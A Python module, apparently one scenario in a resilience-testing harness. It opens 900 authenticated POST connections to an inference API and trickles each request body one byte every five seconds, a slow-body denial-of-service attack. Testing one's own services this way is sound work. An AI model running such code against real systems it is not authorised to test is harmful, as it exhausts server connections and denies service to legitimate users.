"""A paying customer begins hundreds of requests whose bodies never end."""

from __future__ import annotations

from collections.abc import Sequence

import trio

from tools.siege.attack import Attack, Target
from tools.siege.crowd import Crowd, hold

CONNECTIONS = 900
LENGTH = 1_000_000
CRUMB_S = 5.0


async def attack(target: Target, sources: Sequence[str]) -> None:
    """Attack until cancelled."""
    head = (
        "POST /api/v1/inference HTTP/1.1\r\nHost: node\r\nContent-Type: application/json\r\n"
        f"Authorization: Bearer {target.token}\r\nContent-Length: {LENGTH}\r\n\r\n"
    ).encode()

    async def visit(stream: trio.SocketStream) -> None:
        await stream.send_all(head)
        while True:
            await stream.send_all(b" ")
            with trio.move_on_after(CRUMB_S):
                while await stream.receive_some(65536):
                    pass
                return

    await hold([Crowd(target.host, target.http_port, CONNECTIONS)], sources, visit)


ATTACK = Attack("900 requests of one customer whose bodies come a byte every 5 s", attack)
